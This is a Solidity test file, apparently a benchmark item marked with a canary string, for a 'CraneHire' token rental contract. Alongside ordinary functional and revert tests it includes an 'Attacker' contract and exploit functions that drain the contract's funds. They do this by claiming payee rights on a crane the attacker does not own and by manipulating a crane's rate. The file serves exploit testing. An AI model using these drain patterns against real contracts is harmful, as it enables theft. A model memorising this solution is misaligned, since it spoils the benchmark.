// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./CraneHire.sol";
import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-5ae58484-7a61-4629-8582-8e6e7a4c7199

interface Vm {
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Coin private token;
    CraneHire private yard;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        yard = new CraneHire(token);
        token.transfer(BEN, 5_000e18);
        vm.prank(ANA);
        yard.add(90e18);
        vm.startPrank(BEN);
        token.approve(address(yard), type(uint256).max);
        yard.hire(0, 10, 90e18);
        vm.warp(START + 10 days);
        yard.end(0);
        vm.stopPrank();
        mallory = new Attacker(yard, token);
        token.transfer(address(mallory), 1);
    }

    function test_Regular() public {
        require(token.balanceOf(BEN) == 4_100e18, "paid");
        vm.startPrank(ANA);
        yard.setRate(0, 100e18);
        yard.take(0, ANA);
        require(token.balanceOf(ANA) == 900e18 && yard.add(50e18) == 1 && yard.count() == 2, "taken");
        yard.setPayee(0, BEN);
        vm.stopPrank();
        vm.startPrank(BEN);
        yard.hire(0, 5, 100e18);
        yard.hire(1, 2, 50e18);
        vm.warp(START + 12 days);
        yard.end(0);
        require(token.balanceOf(BEN) == 4_100e18 - 300e18 - 100e18, "two days came back");
        vm.stopPrank();
        yard.end(1);
        (address payee,, address firm,,, uint256 due) = yard.cranes(1);
        require(payee == ANA && firm == address(0) && due == 100e18, "ended");
    }

    function test_RefusesSetups() public {
        vm.expectRevert(CraneHire.Zero.selector);
        new CraneHire(IERC20(address(0)));
        vm.expectRevert(CraneHire.Zero.selector);
        yard.add(0);
    }

    function test_RefusesFirms() public {
        vm.startPrank(BEN);
        vm.expectRevert(CraneHire.Idle.selector);
        yard.end(0);
        vm.expectRevert(CraneHire.Zero.selector);
        yard.hire(0, 0, 90e18);
        vm.expectRevert(CraneHire.No.selector);
        yard.hire(0, 2, 89e18);
        yard.hire(0, 2, 90e18);
        vm.expectRevert(CraneHire.Busy.selector);
        yard.hire(0, 2, 90e18);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert(CraneHire.Busy.selector);
        yard.setRate(0, 1);
        vm.warp(START + 12 days - 1);
        vm.expectRevert(CraneHire.No.selector);
        yard.end(0);
        vm.warp(START + 12 days);
        yard.end(0);
    }

    function test_RefusesPayees() public {
        vm.startPrank(BEN);
        vm.expectRevert(CraneHire.No.selector);
        yard.take(0, BEN);
        vm.expectRevert(CraneHire.No.selector);
        yard.setRate(0, 1);
        vm.expectRevert(CraneHire.No.selector);
        yard.setPayee(0, address(0xCA7));
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert(CraneHire.Zero.selector);
        yard.setPayee(0, address(0));
        vm.expectRevert(CraneHire.Zero.selector);
        yard.setRate(0, 0);
        vm.expectRevert(CraneHire.Zero.selector);
        yard.take(0, address(0));
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 900e18, "nothing gained");
    }

    function exploit2() public {
        mallory.hire();
        vm.warp(block.timestamp + 1 days);
        mallory.end();
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(mallory)) >= 900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(yard);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    CraneHire private yard;

    constructor(CraneHire y, Coin c) {
        yard = y;
        c.approve(address(y), 1);
    }

    function hire() external {
        yard.hire(yard.add(1), 1, 1);
    }

    function end() external {
        yard.setRate(1, 900e18);
        yard.end(1);
        yard.take(1, address(this));
    }

    function run() external {
        yard.setPayee(0, address(this));
        yard.take(0, address(this));
    }
}
